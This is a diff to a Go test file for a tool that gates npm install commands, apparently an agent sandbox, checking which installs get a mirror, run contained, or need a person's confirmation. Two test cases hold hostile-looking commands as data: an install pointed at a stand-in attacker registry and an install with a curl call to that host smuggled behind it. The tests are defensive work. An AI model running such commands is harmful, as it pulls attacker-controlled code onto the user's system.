@@ -116,15 +116,17 @@ func TestAnInstallHasAMirror(t *testing.T) {
 	}
 }
 
-// What is not exactly that is asked about, and nobody outside is.
-func TestOtherInstallsAreAskedAbout(t *testing.T) {
+// What is not exactly that has no mirror, and nobody outside is asked for packages. A person is
+// asked where the line says what is fetched, or where; the rest is tried without.
+func TestOtherInstallsHaveNoMirror(t *testing.T) {
 	for name, c := range map[string]struct {
 		line   string
+		asks   bool
 		change func(h *house, s *npmStore)
 	}{
-		"a new name":          {line: "npm install left-pad"},
-		"another registry":    {line: "npm ci --registry=https://evil.example"},
-		"something behind it": {line: "npm ci && curl https://evil.example/x"},
+		"a new name":          {line: "npm install left-pad", asks: true},
+		"another registry":    {line: "npm ci --registry=https://evil.example", asks: true},
+		"something behind it": {line: "npm ci && curl https://evil.example/x", asks: true},
 		"no lock file":        {line: "cd sub && npm ci"},
 		"another manager":     {line: "yarn install"},
 		"a package from git": {line: "npm ci", change: func(h *house, s *npmStore) {
@@ -153,8 +155,18 @@ func TestOtherInstallsAreAskedAbout(t *testing.T) {
 			if c.change != nil {
 				c.change(h, s)
 			}
-			if r := h.before(bash("1", c.line)); r.Decision.Verdict != floodmark.Confirm || r.Command != "" {
+			call := bash("1", c.line)
+			switch r := h.before(call); {
+			case c.asks:
+				if r.Decision.Verdict != floodmark.Confirm || r.Command != "" {
+					t.Errorf("%+v", r)
+				}
+			case !r.Decision.Contained():
 				t.Errorf("%+v", r)
+			default:
+				if spec := h.run(r.Command); spec.Mirror.Set != "" || len(spec.Hosts) > 0 || !spec.Whole {
+					t.Errorf("%+v", spec)
+				}
 			}
 			if got := s.Asked(); len(got) > 0 {
 				t.Errorf("%q", got)
@@ -163,7 +175,7 @@ func TestOtherInstallsAreAskedAbout(t *testing.T) {
 	}
 }
 
-// A registry that has not what is pinned leaves a question, and is not asked again at once.
+// A registry that has not what is pinned is not asked again at once: the call is tried without.
 func TestAMirrorThatCannotBeFilled(t *testing.T) {
 	h, s := stocked(t)
 	s.answer = http.StatusNotFound
@@ -171,7 +183,9 @@ func TestAMirrorThatCannotBeFilled(t *testing.T) {
 		t.Fatalf("%+v", r)
 	}
 	s.answer = http.StatusOK
-	h.asked(bash("2", "npm ci"))
+	if r := h.before(bash("2", "npm ci")); !r.Decision.Contained() || h.run(r.Command).Mirror.Set != "" {
+		t.Errorf("%+v", r)
+	}
 	if got := s.Asked(); len(got) != 1 {
 		t.Errorf("%q", got)
 	}
